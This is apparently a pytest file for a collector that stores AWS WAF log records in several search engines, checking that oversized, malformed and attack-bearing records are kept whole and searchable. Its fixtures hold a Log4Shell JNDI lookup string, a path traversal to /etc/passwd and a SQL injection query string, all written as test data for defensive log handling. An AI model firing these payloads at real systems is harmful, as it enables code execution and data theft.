"""What an outsider can choose, on every engine: each record is stored whole, found by its other fields, and marked."""

from __future__ import annotations

import json
from typing import Any, List
from urllib.parse import quote

import pytest

from collectors.sources.waf import source
from lab.engine import ENGINES
from tests.collectors.json_logs import (
    DEEP,
    LISTS,
    LONG,
    SAMPLES,
    compact,
    made,
    numbers_found,
    stored,
    stored_whole,
    with_text,
)
from tests.collectors.on_engine import ready
from tests.collectors.sources.waf.test_normalise import RECORD, changed, headers

INDEX = "aws-waf-2026.11.21"
#: Each a record of its own.
HOSTILE: List[str] = [
    json.dumps(changed(**values))
    for values in (
        {"uri": f"/{LONG}", "args": LONG, "httpMethod": "x" * 40_000, "requestId": LONG},
        {"headers": [*headers(f"User-Agent: {LONG}", f"Host: {LONG}"), {"name": "k" * 40_000, "value": LONG}]},
        {"headers": [{"name": f"x-{number}", "value": f"v-{number}"} for number in range(1500)]},
        {"headers": [{"name": name, "value": "v"} for name in ("", ".", "..", "a.b", "event", "_id", "@timestamp")]},
        {"headers": headers("X-Api-Version: ${jndi:ldap://203.0.113.66/a}", "Cookie: a={}; b={{}{"), "args": "{"},
        {"headers": "text", "country": {"x": 1}, "clientIp": ["not an address"]},
        {"headers": [{"name": {"a": 1}, "value": [{"b": 2}]}, "text", 5]},
        {"httpRequest": "text", "ruleGroupList": "text", "labels": 5, "rateBasedRuleList": True},
        {"ruleGroupList": [{"terminatingRule": "text"}], "nonTerminatingMatchingRules": {"ruleId": {"x": 1}}},
        {"event": "x", "source": [1], "waf": {"verdict": "mine"}, "network.type": {"x": 1}, "": 1, ".": {"..": 2}},
        {"clientIp": "999.1.1.1", "responseCodeSent": "text", "requestBodySize": "text", "clientAsn": [1.5, "x"]},
        {"captchaResponse": {"responseCode": 10**30, "solveTimestamp": "never"}, "requestBodySize": 1e300},
    )
]
HOSTILE += [
    with_text(RECORD, text)
    for text in (
        '{"action":"ALLOW","action":"BLOCK","labels":[{"name":"a","name":"b"}]}',
        r'{"terminatingRuleId":"half \ud83d","httpRequest":{"uri":"/\udfff","k\udc00":1},"k\ud800":[1]}',
        f'{{"newOfAws":{DEEP},"labels":[{{"name":"deep","more":{DEEP}}}]}}',
        f'{{"newOfAws":{LISTS},"labels":{LISTS}}}',
        '{"newOfAws":{"n":1.10,"m":12345678901234567890123,"o":1E+400},"requestBodySize":1e99}',
        f'{{"newOfAws":[{{}},{{"":{{}}}},[[[1]]]],"labels":[],"oversizeFields":{json.dumps([LONG])}}}',
    )
]


@pytest.fixture(params=list(ENGINES))
def transport(request, engine_by_id):
    yield from ready(engine_by_id(request.param), request.param, "waf", INDEX)


def test_every_hostile_record_is_stored_whole_and_found(transport):
    everything = stored_whole(transport, source, HOSTILE, INDEX)
    assert numbers_found(transport, INDEX, "event.dataset:aws.waf") == everything
    assert numbers_found(transport, INDEX, "cloud.account.id:111122223333 AND webaclId:*webacl*shop*") == everything
    assert numbers_found(transport, INDEX, {"range": {"@timestamp": {"gte": "2026-11-21T04:53:07.123Z"}}}) == everything
    assert numbers_found(transport, INDEX, "event.oversized:httpRequest.headers.name") == [2]
    assert numbers_found(transport, INDEX, "event.oversized:url.path") == [1]
    # A header among 1,500, and one value wherever it stands.
    assert numbers_found(transport, INDEX, "httpRequest.headers.name:x\\-1499 AND httpRequest.headers.value:v\\-7") == [
        3
    ]
    wildcard: Any = {"wildcard": {"httpRequest.headers.value": {"value": "*jndi:*"}}}
    assert numbers_found(transport, INDEX, wildcard) == [5]
    assert numbers_found(transport, INDEX, "httpRequest.headers.value:*jndi\\:*") == [5]
    assert numbers_found(transport, INDEX, "requestBodySize:*") != everything

    mapping = transport.request("GET", (INDEX, "_mapping")).json()[INDEX]["mappings"]
    assert not any(name.startswith("x-") for name in json.dumps(mapping).split('"'))


SYLLABLES, LETTERS = "검색", "\u1100\u1165\u11b7\u1109\u1162\u11a8"
SENT = (
    {"uri": "/" + quote(SYLLABLES), "args": "q=" + quote(SYLLABLES)},
    {"uri": "/" + quote(LETTERS), "args": "q=" + quote(LETTERS)},
    {"uri": "/" + SYLLABLES, "args": "q=" + LETTERS},
    {"uri": "/%252e%252e%2fetc/passwd", "args": "q=%2527+OR+1%253D1"},
    {"uri": "/x%00%0d%0a%ff%c0%ae", "args": "%" * 4000 + "%41"},
    {"headers": headers("X-FORWARDED-FOR: [2001:db8::17]:443", "hOsT: Shop.Example:80", "X-Api-KEY: Abc")},
    {"uri": "/" + "%ea%b0%80" * 4000, "args": "a=" + quote("é" * 5000)},
)


def test_paths_are_found_decoded_however_letters_are_written_and_names_in_any_case(transport):
    documents = made(source, b"\n".join(compact(changed(**values)) for values in SENT))
    found = stored(transport, documents, INDEX)
    for number, values in enumerate(SENT, 1):
        assert found[number]["httpRequest"] == changed(**values)["httpRequest"]
    for written in (SYLLABLES, LETTERS):
        assert numbers_found(transport, INDEX, f"url.path:\\/{written}") == [1, 2, 3]
        assert numbers_found(transport, INDEX, f"url.path:*{written[-2:]}") == [1, 2, 3]
        assert numbers_found(transport, INDEX, f'url.query:"q={written}"') == [1, 2, 3]
        assert 1 not in numbers_found(transport, INDEX, f"NOT url.query:q={written}")
    assert numbers_found(transport, INDEX, "url.path:\\/..\\/etc*") == [4]
    assert numbers_found(transport, INDEX, 'url.path:"/%2e%2e/etc/passwd"') == [4]
    assert numbers_found(transport, INDEX, "url.original:*%252e%252e*") == [4]
    assert numbers_found(transport, INDEX, 'url.query:"q=\' OR 1=1"') == [4]
    assert numbers_found(transport, INDEX, "url.path:*%FF%C0%AE") == [5]
    assert numbers_found(transport, INDEX, "url.query:*%A") == [5]
    assert numbers_found(transport, INDEX, "httpRequest.headers.name:x-forwarded-for") == [6]
    assert numbers_found(transport, INDEX, "httpRequest.headers.name:X-Forwarded-*") == [6]
    assert numbers_found(transport, INDEX, 'network.forwarded_ip:"2001:db8::/32"') == [6]
    assert numbers_found(transport, INDEX, "url.domain:shop.example") == list(range(1, 8))
    assert numbers_found(transport, INDEX, "url.path:\\/가가가*") == [7]


def test_records_of_every_kind_are_found_by_both_kinds_of_names(transport):
    paths = sorted((SAMPLES / "waf").glob("*.jsonl"))
    documents = made(source, b"".join(path.read_bytes() for path in paths))
    records = stored(transport, documents, INDEX)

    def found(query: Any) -> List[str]:
        return sorted(records[number]["terminatingRuleId"] for number in numbers_found(transport, INDEX, query))

    blocked = found("event.action:BLOCK")
    assert blocked == found("action:BLOCK") == found("waf.verdict:blocked")
    assert len(blocked) == 7
    assert found("waf.verdict:challenged") == ["captcha-rule", "challenge-rule"]
    assert len(found("waf.verdict:counted")) == 5
    assert len(found("waf.counted_rules:SQLi_BODY AND action:ALLOW")) == 1
    assert found("rule.id:Log4JRCE_HEADER") == ["AWS-AWSManagedRulesKnownBadInputsRuleSet"]
    assert found("ruleGroupList.terminatingRule.ruleId:Log4JRCE_HEADER") == found("rule.id:Log4JRCE_HEADER")
    assert len(found("terminatingRuleMatchDetails.conditionType:SQL_INJECTION")) == 1
    assert len(found("rateBasedRuleList.customValues.value:ella")) == 1
    assert len(found("labels.name:awswaf\\:managed\\:token\\:absent AND ja4Fingerprint:t13d1516h2*")) == 1
    assert len(found("source.ip:203.0.113.0\\/24")) == len(found("httpRequest.clientIp:203.0.113.0\\/24")) == 20
    assert len(found("source.geo.country_iso_code:NL AND source.as.number:64510")) == 20
    assert len(found("network.forwarded_ip:198.51.100.7")) == 1
    assert len(found("httpRequest.headers.name:x\\-forwarded\\-for")) == 2
    assert len(found("requestBodySize:[90000 TO *] AND oversizeFields:REQUEST_BODY")) == 1
